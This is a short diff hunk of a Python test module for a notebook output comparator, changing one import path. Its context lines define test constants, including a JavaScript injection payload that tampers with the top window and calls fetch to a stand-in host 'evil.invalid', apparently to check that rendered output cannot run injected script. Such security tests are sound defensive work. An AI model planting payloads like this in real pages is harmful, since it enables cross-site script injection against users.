@@ -8,7 +8,7 @@ from typing import NamedTuple
 from comparator.outputs.extract.notebook import read as read_notebook
 from comparator.outputs.limits import Limits
 from comparator.outputs.tables.store import MEDIA_TYPE
-from tests.worlds.files.kept_tables import kept
+from tests.worlds.files.outputs import kept
 
 EVIL = "http://evil.invalid"
 STOP = "window.top.document.title='owned';window.top.owned=1;fetch('http://evil.invalid/ran')"
